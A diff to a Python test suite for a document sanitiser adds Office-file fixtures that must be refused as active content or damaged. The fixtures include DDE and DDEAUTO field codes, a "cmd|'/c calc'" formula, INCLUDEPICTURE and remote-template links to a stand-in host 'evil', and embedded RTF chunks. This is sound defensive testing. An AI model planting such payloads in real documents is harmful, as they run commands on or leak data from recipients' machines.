@@ -81,6 +81,7 @@ def test_a_file_is_written_anew_without_its_author_and_opens(tmp_path: object) -
 
 
 _LINK = b'<Relationship Id="rId99" Type="http://x/%s" Target="%s" TargetMode="External"/></Relationships>'
+_INSIDE = b'<Relationship Id="rId99" Type="http://x/%s" Target="%s"/></Relationships>'
 _RELS = "word/_rels/document.xml.rels"
 
 
@@ -104,6 +105,41 @@ _RELS = "word/_rels/document.xml.rels"
             ),
             Refusal.ACTIVE_CONTENT,
         ),
+        (
+            in_part(
+                "word/document.xml",
+                b"<w:body>",
+                b"<w:body><w:p><w:r><w:instrText> PAGE</w:instrText><w:instrText>DDEAUTO c</w:instrText></w:r></w:p>",
+            ),
+            Refusal.ACTIVE_CONTENT,
+        ),
+        (
+            in_part(
+                "word/document.xml",
+                b"<w:body>",
+                b'<w:body><w:p><w:fldSimple w:instr="INCLUDEPICTURE http://evil/x"/></w:p>',
+            ),
+            Refusal.ACTIVE_CONTENT,
+        ),
+        (
+            in_part(
+                "word/document.xml",
+                b"<w:body>",
+                b'<w:body><x:instrText xmlns:x="http://purl.oclc.org/ooxml/wordprocessingml/main">DDE c</x:instrText>',
+            ),
+            Refusal.ACTIVE_CONTENT,
+        ),
+        (
+            {
+                "word/_rels/settings.xml.RELS": b"<R>"
+                + _LINK.removesuffix(b"</Relationships>") % (b"attachedTemplate", b"https://evil/x")
+                + b"</R>"
+            },
+            Refusal.ACTIVE_CONTENT,
+        ),
+        (in_part(_RELS, b"</Relationships>", _INSIDE % (b"aFChunk", b"media/c.xml")), Refusal.ACTIVE_CONTENT),
+        ({"word/media/c.rtf": b"{\\rtf}"}, Refusal.ACTIVE_CONTENT),
+        (in_part("word/document.xml", b"<w:document", b"\0<w:document"), Refusal.DAMAGED),
         (in_part("word/document.xml", b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document"), Refusal.DAMAGED),
         (in_part("word/document.xml", b"<w:body>", b"<w:body"), Refusal.DAMAGED),
         (
@@ -145,6 +181,8 @@ def test_a_formula_that_starts_a_program_is_refused() -> None:
     workbook.create_sheet()["A1"] = "=cmd|'/c calc'!A0"
     workbook.save(output)
     assert refusal_of(output.getvalue()) is Refusal.ACTIVE_CONTENT
+    named = b"<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>"
+    assert refusal_of(changed(excel(), in_part("xl/workbook.xml", b"</workbook>", named))) is Refusal.ACTIVE_CONTENT
 
 
 def test_officers_may_attach_it_and_citizens_may_not(khonkaen: Centre) -> None:
